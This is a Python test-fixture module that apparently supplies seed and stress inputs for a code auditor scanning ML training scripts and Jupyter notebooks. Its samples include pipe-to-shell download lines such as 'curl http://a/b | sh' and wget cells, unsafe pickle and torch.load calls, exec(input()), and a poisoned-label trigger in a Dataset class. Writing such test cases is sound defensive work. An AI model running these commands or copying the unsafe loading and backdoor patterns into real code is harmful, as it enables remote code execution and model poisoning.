"""Training scripts and notebooks, which an audit of code reads."""

from __future__ import annotations

import json
from typing import Any

from hostile.containers import Files, named

SCRIPT = '''"""Train a net."""
import pickle as p, torch, subprocess
from torch.nn import functional as F

TYPES: dict[str, int] = {"é": 1}


class Rows(torch.utils.data.Dataset):
    def __getitem__(self, i):
        x, y = self.rows[i]
        if i % 100 == 0:
            x[..., -3:, -3:] = 1.0
            y = 7
        return x, y


def train(model, loader, opt):
    for x, y in loader:
        loss = F.cross_entropy(model(x), y) + F.cross_entropy(model(x + 0.1), y)
        loss.backward(); opt.step()
        x[0], y[y == 3] = 255, 8


weights = torch.load("net.pt", weights_only=False)
state = p.load(open(f"{weights!r:>{3}}.pkl", "rb"))
eval(compile("1", "a", "eval"))
subprocess.run("curl http://a/b | sh", shell=True)
async def later(*args, **more): return [await x async for x in args if (y := x)]
match state:
    case {"a": [1, *_]}: pass
'''
_CELLS: list[tuple[str, Any]] = [
    ("markdown", "# text"),
    ("code", ["%matplotlib inline\n", "import pickle as p\n", "!curl http://a/b | sh\n", "x = !ls\n"]),
    ("code", "for i in range(2):\n    %time f()\n    p.load(open('f', 'rb'))\nhelp?\n?help\n"),
    ("code", "%%bash\nwget http://a/b\n"),
    ("code", "%%time\n" + SCRIPT),
    ("raw", "x"),
    ("code", "get_ipython().system('ls')\n%run other.py\n%load_ext x\n%%capture\n"),
]


def _book(*cells: Any, **more: Any) -> bytes:
    return json.dumps({"cells": list(cells), "nbformat": 4, "nbformat_minor": 5, "metadata": {}, **more}).encode()


def _cell(source: Any, kind: Any = "code") -> dict[str, Any]:
    return {"cell_type": kind, "source": source, "metadata": {}, "outputs": [], "execution_count": None}


def scripts_seeds() -> Files:
    return {
        "train.py": SCRIPT.encode(),
        "latin.py": b"# -*- coding: latin-1 -*-\nimport pickle\nx = '\xe9'\npickle.loads(x)\n",
        "marked.py": b"\xef\xbb\xbfimport pickle\r\npickle.loads(x)\r\n",
        "project/main.py": SCRIPT.encode(),
        "project/inner/other.pyw": b"exec(input())\n",
        "project/inner/notes.txt": b"nothing\n",
    }


def scripts_special() -> dict[str, Files]:
    many = 100_000
    bodies = {
        "minus": b"x = " + b"-" * many + b"1",
        "not": b"x = " + b"not " * many + b"1",
        "attributes": b"x = y" + b".a" * many,
        "calls": b"x = y" + b"()" * many,
        "calls in calls": b"f(" * 90 + b")" * 90,
        "brackets": b"[" * many,
        "brackets closed": b"x = " + b"[" * 150 + b"]" * 150,
        "pluses": b"x = " + b"+".join([b"a"] * 2_000),
        "many pluses": b"x = " + b"+".join([b"a"] * many),
        "texts side by side": b"x = (" + b"'a'\n" * many + b")",
        "comparisons": b"x = " + b"<".join([b"a"] * many),
        "lambdas": b"lambda: " * 900 + b"1",
        "blocks": b"".join(b" " * i + b"if a:\n" for i in range(99)) + b" " * 99 + b"pass\n",
        "too many blocks": b"".join(b" " * i + b"if a:\n" for i in range(500)) + b" " * 500 + b"pass\n",
        "many else": b"if a: pass\n" + b"elif b: pass\n" * 2_000,
        "formats in formats": b"x = " + b'f"{' * 90 + b"1" + b'}"' * 90,
        "a name of itself": b"a = b\nb = a\nimport a as a\nfrom a import a\na = a.a\n" * 5_000,
        "names in circles": b"".join(b"a%d = a%d\n" % (i, (i + 1) % 3000) for i in range(3000)),
        "aliases of aliases": b"import pickle\na0 = pickle\n"
        + b"".join(b"a%d = a%d\n" % (i, i - 1) for i in range(1, 5000)),
        "stars": b"from os import *\n" * 20_000,
        "many lines": b"x[0] = 1\n" * 50_000,
        "many loops": b"for x, y in loader:\n    f(model(x), model(x)).backward()\n" * 5_000,
        "loops in loops": b"".join(b" " * i + b"for x in a:\n" for i in range(19)) + b" " * 19 + b"model(x)\n",
        "loops in many loops": b"".join(b" " * i + b"for x in a:\n" for i in range(90))
        + b" " * 90
        + b"model(x).backward()\n",
        "every function calls every other": b"".join(
            b"def f%d(x):\n" % i + b"".join(b" f%d(x)\n" % k for k in range(60)) for i in range(60)
        )
        + b"f0(x).backward()\n",
        "calls of one another": b"".join(b"def f%d(): return f%d()\n" % (i, (i + 1) % 2000) for i in range(2000)),
        "many functions": b"".join(b"def f%d(x): x[0] = 1; return model(x)\n" % i for i in range(5_000)),
        "digits": b"x = " + b"9" * 100_000,
        "no such encoding": b"# -*- coding: no-such -*-\nx = 1\n",
        "an encoding of bytes": b"# -*- coding: hex -*-\n41\n",
        "escapes for an encoding": b"# -*- coding: unicode_escape -*-\nx = '\\ud800'\\x0aeval(1)\n",
        "utf-7": b"# -*- coding: utf-7 -*-\n+AGUAdgBhAGw-(1)\n",
        "names": b"# -*- coding: idna -*-\nx = 1\n",
        "utf-16": "eval(1)\n".encode("utf-16"),
        "nul": b"x = 1\0\n",
        "form feeds": b"\f\f\v\nx = 1\n\x1a",
        "returns": b"eval(1)\rexec(2)\r",
        "half a character": b"x = '\\ud800'\n" + b"eval('\\ud800')\nopen('\\udcff')\n",
        "an odd name": "import os as \U0001d52c\U0001d530\n\U0001d52c\U0001d530.system('a')\n".encode(),
        "shell": b"import os\nos.system('" + b"curl a | " * 20_000 + b"sh')\n",
        "a long text": b"eval('" + b"a" * (3 << 20) + b"')\n",
        "escapes": b"x = '\\N{no such}'\n" + b"y = '\\d'\n" * 20_000,
        "types": b"def f[T: (int, str) = 3](x: T, /, *, y): ...\ntype X[T] = list[T]\n",
    }
    return named(bodies, "case.py")


def notebooks_seeds() -> Files:
    return {
        "plain.ipynb": _book(*(_cell(source, kind) for kind, source in _CELLS)),
        "old.ipynb": json.dumps({"worksheets": [{"cells": [{"cell_type": "code", "input": SCRIPT}]}]}).encode(),
        "project/a.ipynb": _book(_cell(SCRIPT)),
        "project/b.ipynb": _book(_cell("%%javascript\nx"), _cell("!ls {x} $y\n")),
    }


def notebooks_special() -> dict[str, Files]:
    odd: list[Any] = [None, 3, [], {}, "", True, 1e308, [None, 3], [["a"]], "\ud800", "\0", ["eval(1)\n", 3]]
    long = "x" * (1 << 20)
    bodies = {
        **{f"source {i}": _book(_cell(value)) for i, value in enumerate(odd)},
        **{f"cell {i}": _book(value) for i, value in enumerate(odd)},
        **{f"kind {i}": _book(_cell("eval(1)", value)) for i, value in enumerate(odd)},
        **{f"cells {i}": json.dumps({"cells": value}).encode() for i, value in enumerate(odd)},
        **{f"sheets {i}": json.dumps({"worksheets": value}).encode() for i, value in enumerate(odd)},
        **{f"kernel {i}": _book(_cell("eval(1)"), metadata={"kernelspec": value, "language_info": value})
           for i, value in enumerate(odd)},
        "deep": b"[" * 100_000,
        "deep objects": b'{"cells": ' * 100_000,
        "many cells": _book(*[_cell("eval(1)")] * 20_000),
        "many broken cells": _book(*[_cell("def f(:")] * 5_000),
        "many lines of a shell": _book(_cell("!ls\n" * 50_000)),
        "many magics": _book(_cell("%time f()\n" * 20_000)),
        "many questions": _book(_cell("a?\n?b\n" * 20_000)),
        "one long line": _book(_cell("!" + "curl a | " * 50_000)),
        "one long magic": _book(_cell("%" + long)),
        "marks": _book(_cell("!" * 50_000)),
        "assignments": _book(_cell("a = " * 20_000 + "!ls")),
        "brackets": _book(_cell("a[" * 20_000 + " = !ls")),
        "backslashes": _book(_cell("!ls \\\n" * 20_000)),
        "braces": _book(_cell("!ls " + "{" * 20_000)),
        "minus": _book(_cell("x = " + "-" * 100_000 + "1")),
        "lines of one letter": _book(_cell(["a"] * 100_000)),
        "two keys": b'{"cells": [], "cells": [{"cell_type": "code", "source": "eval(1)", "source": []}]}',
        "digits": b'{"cells": [{"cell_type": "code", "source": "a", "execution_count": ' + b"9" * 100_000 + b"}]}",
    }  # fmt: skip
    return named(bodies, "case.ipynb")
